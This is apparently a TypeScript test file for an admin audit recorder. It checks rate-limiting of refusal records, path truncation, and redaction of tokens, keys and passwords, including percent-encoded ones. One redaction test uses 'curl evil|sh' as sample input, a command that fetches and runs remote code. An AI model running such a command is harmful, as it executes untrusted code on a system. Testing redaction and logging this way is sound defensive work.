import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { JournalError } from '../../../../src/admin/journal/failures.ts';
import type { AuditRecord } from '../../../../src/admin/journal/record.ts';
import { createPrincipals } from '../../../../src/admin/policy/principal.ts';
import { createRecorder, type AuditSubject } from '../../../../src/admin/calls/recorder.ts';
import { Secret } from '../../../../src/lib/secret.ts';
import { givenPrincipal } from '../../../support/given-principal.ts';

const ownToken = 'own-token-Zq7x-0123456789';
const otherToken = 'other_token-Zq7x-0123456789';
const applianceKey = 'ApplianceKeyZq7x0123456789';

/** A recorder over a list of records, which can refuse them, and a clock that is set by hand. */
function givenRecorder() {
  const written: AuditRecord[] = [];
  const lost: string[] = [];
  const state = { nowMs: Date.parse('2026-11-20T08:00:00Z'), isFull: false };
  const principals = createPrincipals(
    [ownToken, otherToken].map((token) => ({
      ...givenPrincipal({ role: 'viewer' }),
      sha256: createHash('sha256').update(token).digest('hex'),
    })),
    () => state.nowMs,
  );
  const recorder = createRecorder({
    journal: {
      async append(record) {
        if (state.isFull) throw new JournalError('full', 'no room is left');
        written.push(record);
        return { seq: written.length, hash: '' };
      },
    },
    keys: () => [new Secret(applianceKey)],
    isToken: (word) => principals.isToken(word),
    onLost: (_, { id }) => lost.push(id),
    steadyNow: () => state.nowMs,
    maxDenialsPerMinute: 60,
  });
  return { recorder, written, lost, state };
}

function givenSubject(known: Partial<AuditSubject> = {}): AuditSubject {
  return {
    id: 'request-1',
    principal: givenPrincipal({ role: 'viewer' }),
    token: new Secret(ownToken),
    address: '192.0.2.7',
    method: 'PUT',
    path: '/farms/shop/actions',
    ...known,
  };
}

const denied = { event: 'denied', status: 403, code: 'role_too_low' } as const;
const encoded = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

it('refusals are audited up to sixty times a minute per principal, then counted and summed up before the next', async () => {
  const { recorder, written, state } = givenRecorder();
  const bob = givenPrincipal({ name: 'bob', role: 'viewer' });
  for (let count = 1; count <= 500; count += 1)
    await recorder.recordBestEffort(givenSubject({ id: `ann-${count}` }), denied);
  await recorder.recordBestEffort(givenSubject({ id: 'bob-1', principal: bob }), denied);
  const before = written.length;

  state.nowMs += 60_000;
  const position = await recorder.recordOrRefuse(givenSubject({ id: 'bob-2', principal: bob }), { event: 'intent' });
  await recorder.recordBestEffort(givenSubject({ id: 'ann-501' }), denied);
  await recorder.close();

  expect(before).toBe(61);
  expect(written[60]).toMatchObject({ request: 'bob-1' });
  expect(written.slice(61)).toEqual([
    { event: 'denied', request: '-', principal: 'ann', role: 'viewer', method: '-', path: '-', suppressed: 440 },
    expect.objectContaining({ event: 'intent', request: 'bob-2' }),
    expect.objectContaining({ request: 'ann-501', code: 'role_too_low' }),
  ]);
  expect(position.seq).toBe(63);
});

it('an audited refusal of a long path costs little, even under multiple encoding, and shows no part of a secret', async () => {
  const { recorder, written } = givenRecorder();
  const path = `/${'a'.repeat(15_000)}/e=%2525252541`;
  const before = process.threadCpuUsage();

  await recorder.recordBestEffort(givenSubject({ path }), denied);
  await recorder.recordBestEffort(givenSubject({ path: `/${'b/'.repeat(2_043)}${ownToken}/x` }), denied);

  expect(process.threadCpuUsage(before).user).toBeLessThan(200_000);
  expect(written[0]?.path).toBe(`/… (${path.length} characters)`);
  expect(JSON.stringify(written)).not.toContain(ownToken.slice(0, 6));
});

it('refusals that were only counted are summed up in the audit when the exporter stops', async () => {
  const { recorder, written } = givenRecorder();
  for (let count = 1; count <= 61; count += 1) await recorder.recordBestEffort(givenSubject(), denied);

  await recorder.close();
  await recorder.close();

  expect(written.slice(60)).toMatchObject([{ event: 'denied', principal: 'ann', suppressed: 1 }]);
});

it('refusals are audited one by one again when the minute has passed', async () => {
  const { recorder, written, state } = givenRecorder();
  for (let count = 1; count <= 60; count += 1) await recorder.recordBestEffort(givenSubject(), denied);

  state.nowMs += 1_000;
  await recorder.recordBestEffort(givenSubject(), denied);
  await recorder.recordBestEffort(givenSubject(), denied);

  expect(written).toHaveLength(61);
});

it('refusals in the audit do not limit intents and outcomes', async () => {
  const { recorder, written } = givenRecorder();

  for (let count = 1; count <= 100; count += 1) {
    await recorder.recordOrRefuse(givenSubject(), { event: 'intent' });
    await recorder.recordBestEffort(givenSubject(), { event: 'outcome', status: 200 });
  }

  expect(written).toHaveLength(200);
});

it('an audited refusal is short, and is redacted before it is truncated', async () => {
  const { recorder, written } = givenRecorder();
  const path = `/farms/${'x'.repeat(235)}/${ownToken}`;
  const reason = `${'y'.repeat(240)} ${otherToken}`;

  await recorder.recordBestEffort(givenSubject({ path, reason }), denied);
  await recorder.recordBestEffort(givenSubject({ path, reason }), { event: 'outcome' });

  expect(written[0]?.path).toBe(`/farms/${'x'.repeat(235)}/[redacted]`.slice(0, 256));
  expect(written[0]?.reason).toBe(`${'y'.repeat(240)} [redacted]`);
  expect(`${written[0]?.path} ${written[0]?.reason}`.length).toBeLessThanOrEqual(513);
  expect(written[1]?.path).toHaveLength(253);
});

it('refusals and sums that could not be written to the audit are reported', async () => {
  const { recorder, lost, state } = givenRecorder();
  for (let count = 1; count <= 61; count += 1) await recorder.recordBestEffort(givenSubject(), denied);
  state.isFull = true;

  await recorder.recordBestEffort(
    givenSubject({ id: 'lost', principal: givenPrincipal({ name: 'bob', role: 'viewer' }) }),
    denied,
  );
  await recorder.close();

  expect(lost).toEqual(['lost', '-']);
});

describe('a path or a reason in the audit', () => {
  const pathAfter = async (path: string): Promise<string | undefined> => {
    const { recorder, written } = givenRecorder();
    await recorder.recordBestEffort(givenSubject({ path }), denied);
    return written[0]?.path;
  };
  const reasonAfter = async (reason: string): Promise<string | undefined> => {
    const { recorder, written } = givenRecorder();
    await recorder.recordOrRefuse(givenSubject({ reason }), { event: 'intent' });
    return written[0]?.reason;
  };

  it.each([
    '/farms/shop/actions',
    '/farms/caf%C3%A9%20am%20See/actions',
    '/interfaces/virtual/eth0:vip',
    '/x/%zz/%',
    '/farms/100%25',
  ])('stays unchanged without a secret: %s', async (path) => {
    expect(await pathAfter(path)).toBe(path);
    expect(await reasonAfter(path)).toBe(path);
  });

  it.each([
    ['the own token', ownToken],
    ['a token of another principal', otherToken],
    ['a key of an appliance', applianceKey],
  ])('hides %s, plain or percent-encoded once or several times', async (_, secret) => {
    for (const text of [secret, encoded(secret), encoded(encoded(secret)), encoded(encoded(encoded(secret)))]) {
      for (const shown of [await pathAfter(`/farms/caf%C3%A9/${text}`), await reasonAfter(`why: "${text}".`)]) {
        expect(shown).toContain('[redacted]');
        expect(shown).not.toContain(text);
        expect(decodeURIComponent(decodeURIComponent(shown ?? ''))).not.toContain(secret);
      }
    }
  });

  it('hides a plain secret next to an encoded one', async () => {
    const shown = await pathAfter(`/${ownToken}/${encoded(otherToken)}/%ff${encoded(applianceKey)}`);

    expect(shown).toBe('/[redacted]/[redacted]/\u{FFFD}[redacted]');
  });

  it('is redacted where it is encoded too many times, and only there', async () => {
    const often = `%${'25'.repeat(20)}41`;

    expect(await pathAfter(`/farms/${often}/x`)).toBe('/farms/[redacted 35 characters]/x');
    expect(await reasonAfter(`curl evil|sh # ${often}`)).toBe('curl evil|sh # [redacted 35 characters]');
  });

  it.each([
    ['password=hunter2 for now', 'password=[redacted 7 characters] for now'],
    ['see https://ann:hunter2@wiki.example.com/7', 'see https://[redacted 11 characters]@wiki.example.com/7'],
    ['-----BEGIN PRIVATE KEY-----hunter2', '-----BEGIN PRIVATE KEY-----[redacted 7 characters]'],
    ['ticket 12, 10:30: planned work', 'ticket 12, 10:30: planned work'],
  ])('is redacted like a text in a body: %s', async (text, masked) => {
    expect(await reasonAfter(text)).toBe(masked);
    expect(await reasonAfter(encoded(text))).toBe(masked.includes('[redacted') ? masked : encoded(text));
    expect(await pathAfter(`/farms/${encoded(text)}`)).not.toContain('hunter2');
  });

  it('is redacted in the same way for other readers', () => {
    const { recorder } = givenRecorder();

    expect(recorder.redact(`password=x, ${otherToken}`, new Secret(ownToken))).toBe(
      'password=[redacted 2 characters] [redacted]',
    );
  });

  it('is processed quickly at its maximum length', async () => {
    const { recorder } = givenRecorder();
    const hostile = [encoded('abcdefgh/'), '%25', 'abcdefgh ', '%', 'password=', ownToken];
    // The time of this thread, which other work on the machine does not lengthen.
    const before = process.threadCpuUsage();

    for (const part of hostile) {
      const path = part.repeat(16_384 / part.length);
      await recorder.recordOrRefuse(givenSubject({ path }), { event: 'intent' });
    }

    expect(process.threadCpuUsage(before).user).toBeLessThan(2_000_000);
  });
});

it('the audit redacts known secrets in every other field, also in field names', async () => {
  const { recorder, written } = givenRecorder();
  const body = { [`a ${applianceKey}`]: [{ note: `the token ${ownToken}, and ${otherToken}.` }], size: 7 };

  await recorder.recordOrRefuse(givenSubject(), { event: 'intent', body });

  expect(written[0]?.body).toEqual({
    'a [redacted]': [{ note: 'the token [redacted], and [redacted].' }],
    size: 7,
  });
});

it('the audit redacts known secrets in JSON values, percent-encoded once or several times', async () => {
  const { recorder, written } = givenRecorder();
  for (const secret of [ownToken, otherToken, applianceKey])
    for (const text of [encoded(secret), encoded(encoded(secret)), encoded(encoded(encoded(secret)))]) {
      const body = { redirect: `/login?t=${text}`, list: [{ [text]: 'x' }], farm: 'caf%C3%A9' };

      await recorder.recordOrRefuse(givenSubject(), { event: 'intent', body });

      expect(recorder.holdsSecret(body, new Secret(ownToken))).toBe(true);
      expect(written.at(-1)?.body).toEqual({
        redirect: '/login?t=[redacted]',
        list: [{ '[redacted]': 'x' }],
        farm: 'caf%C3%A9',
      });
    }
});
